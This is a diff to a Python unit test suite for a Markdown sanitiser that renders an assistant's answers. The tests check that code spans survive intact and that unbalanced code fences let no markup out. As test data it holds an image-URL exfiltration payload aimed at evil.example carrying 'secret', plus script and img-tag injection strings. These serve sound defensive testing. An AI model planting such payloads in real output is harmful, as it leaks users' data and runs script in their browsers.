@@ -29,6 +29,8 @@ from assistant.ui.texts import LANGUAGES, error_text, notice_text, page_language
 from tests.unit.samples import source
 
 BAD = "http://evil.example/p.png?d=secret"
+CODE = "curl -s https://x.local/a?b=1 > out && cat <out | grep 'a@b.c' # ![x](y) **z**"
+CODE_SPAN = f"Так: `{CODE}`, и всё"
 HOSTILE = [
     f"![x]({BAD})",
     f"![x]( <{BAD}> 'title')",
@@ -187,15 +189,43 @@ def test_numbers_become_links_to_their_passages() -> None:
         "a < b > c & d [e] (f) [g]: h ![i] # j",
         "Диапазон [10] и список [1, 2].",
         "`ssh user@host` и `@Override`, массив `a[0]`",
+        CODE_SPAN,
+        "`` a`b `` и ` x ` и \\`не код\\` и `",
+        f"Выполните:\n```bash\n{CODE}\n\n  {CODE}\n```\nи **готово**",
+        f"~~~\n{CODE}\n```\n~~~\n```` \n```\n{CODE}\n````",
+        f"1. Раз:\n   ```sh\n   {CODE}\n     {CODE}\n   ```\n2. Два",
+        f"> ```\n> {CODE}\n> ```\n\nдальше",
+        f"не закрыт:\n```\n{CODE}",
     ],
 )
 def test_plain_text_reads_as_it_was_written(text: str) -> None:
-    parsers = (MarkdownIt("js-default"), MarkdownIt("js-default"))
+    parsers = (MarkdownIt("js-default"), MarkdownIt("js-default", {"html": True}))
     before, after = (Elements(p.render(t)) for p, t in zip(parsers, (text, safe_markdown(text)), strict=True))
-    assert after.text == before.text
+    assert after.text.strip() == before.text.strip()
     assert [tag for tag, _ in after.found] == [tag for tag, _ in before.found if tag != "a"]
     one_line = " ".join(text.split())
     assert Elements(MarkdownIt().renderInline(safe_inline(text))).text == one_line
+
+
+@pytest.mark.parametrize("code", ["`arr[1] & <b>`", "```\narr[1] & <b>\n```"])
+def test_code_in_an_answer_has_no_citations(code: str) -> None:
+    (elements, *_) = renderings(answer_markdown(f"Так:\n{code}\nсм. [1]", [numbered(1)]))
+    assert "arr[1] & <b>" in elements.text
+    assert [tag for tag, _ in elements.found if tag in ("a", "b")] == ["a"]
+
+
+@pytest.mark.parametrize(
+    "begin", ["`", "``", "```", "~~~", "\\`", "- ```", "  ```", "    ```", "> ~~~", "1. `", "```` `"]
+)
+@pytest.mark.parametrize(
+    "between", ["", "x", "\n", "\n\n", "\n- y\n", "\n> z\n\n", "` `` ```", "\n  ```\n", "\n~~~~ `\n"]
+)
+def test_unbalanced_code_lets_nothing_out(begin: str, between: str) -> None:
+    own = {document_link(numbered(1))}
+    for hostile in (f"<img src={BAD}>", f"![x]({BAD})", "<script>alert(1)</script>[1]", "> <img src=x>"):
+        for text in (f"{begin}{between}{hostile}", f"a\n{begin}b{between}{hostile}{begin}{hostile}{between}{hostile}"):
+            assert_harmless(answer_markdown(text, [numbered(1)]), own)
+            assert_harmless(safe_markdown(text), set())
 
 
 def test_the_list_of_sources_names_title_page_file_and_class() -> None:
